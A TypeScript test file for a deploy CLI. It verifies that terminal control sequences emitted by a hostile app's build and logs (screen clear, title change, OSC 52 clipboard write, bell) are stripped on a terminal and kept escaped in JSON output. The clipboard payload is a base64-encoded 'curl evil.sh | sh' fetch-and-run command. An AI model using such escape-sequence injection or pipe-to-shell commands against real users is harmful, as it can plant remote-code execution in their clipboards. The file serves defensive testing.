// An app that attacks the terminal of whoever reads its output (issue 13, item 13): its
// build and its server print a screen clear, a window title, an OSC 52 clipboard write
// and a bare BEL. `deploy` and `deploy logs` on a real (pseudo-)terminal show the words
// and none of the sequences; `--json` keeps them as data. The built CLI, a real sshd,
// the real agent and Caddy.
import assert from "node:assert/strict";
import { readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, describe, test } from "vitest";
import { runCliInPty } from "../helpers/pty-cli.js";
import { startTestServer, type TestServer } from "./server.js";

const CLEAR = "\x1b[2J";
const TITLE = "\x1b]0;owned title\x07";
const CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07";
const BELL = "\x07";
const HOSTILE = `${CLEAR}${TITLE}${CLIPBOARD}${BELL}`;

/** Asserts the terminal got none of the app's sequences (the CLI's own colours are SGR, none of these). */
function assertInert(output: string): void {
	for (const [name, sequence] of [
		["screen clear", CLEAR],
		["OSC (title, clipboard)", "\x1b]"],
		["BEL", BELL],
	]) {
		assert.ok(!output.includes(sequence as string), `${name} reached the terminal: ${JSON.stringify(output)}`);
	}
}

describe("app output with terminal control sequences", () => {
	let server: TestServer;
	const inPty = (args: string[]) => runCliInPty(args, { cwd: server.appDir, env: server.env });

	beforeAll(async () => {
		server = await startTestServer("hello");
		// JSON.stringify writes the control characters as \u escapes in the sources; the programs print them raw.
		const hostile = JSON.stringify(HOSTILE);
		await writeFile(join(server.appDir, "build.js"), `console.log("build says " + ${hostile} + "hi");\n`);
		await writeFile(join(server.appDir, "deploy.yaml"), 'app: hello\nbuild: "node build.js"\n');
		const app = await readFile(join(server.appDir, "server.js"), "utf8");
		await writeFile(join(server.appDir, "server.js"), `console.log("app says " + ${hostile} + "hi");\n${app}`);
	});

	afterAll(async () => {
		await server?.stop();
	});

	test("deploy on a terminal streams the build's words without its sequences", async () => {
		const run = await inPty([]);
		assert.equal(run.code, 0, run.output);
		assert.match(run.output, /build says hi/);
		assertInert(run.output);
	});

	test("deploy logs on a terminal prints the app's words without its sequences", async () => {
		const run = await inPty(["logs"]);
		assert.equal(run.code, 0, run.output);
		// The whole sequences go, not only their escape bytes: no "]0;owned title" left to read.
		assert.match(run.output, /web:\d+ app says hi/);
		assertInert(run.output);
	});

	test("piped, the plain view is inert too: `deploy logs | grep` ends on a terminal", async () => {
		const run = await server.cli(["logs"]);
		assert.equal(run.code, 0, run.stderr);
		assert.match(run.stdout, /web:\d+ app says hi/);
		assertInert(run.stdout);
	});

	test("--json keeps the sequences as data, escaped by JSON even on a terminal", async () => {
		const piped = await server.cli(["logs", "--json"]);
		assert.equal(piped.code, 0, piped.stderr);
		const lines = piped.lines.map((l) => l.line);
		assert.ok(lines.includes(`app says ${HOSTILE}hi`), JSON.stringify(lines));
		const onTerminal = await inPty(["logs", "--json"]);
		assert.equal(onTerminal.code, 0, onTerminal.output);
		assertInert(onTerminal.output);
		assert.ok(onTerminal.output.includes(JSON.stringify(`app says ${HOSTILE}hi`)), onTerminal.output);
	});

	test("a failed build's last lines, shown with the error, are inert as well", async () => {
		await writeFile(join(server.appDir, "build.js"), `console.log("failing build says " + ${JSON.stringify(HOSTILE)} + "hi");\nprocess.exit(3);\n`);
		const run = await inPty([]);
		assert.equal(run.code, 1, run.output);
		// Once streamed as the build's output, once among the error's details.
		assert.equal(run.output.match(/failing build says hi/g)?.length, 2, run.output);
		assertInert(run.output);
	});
});
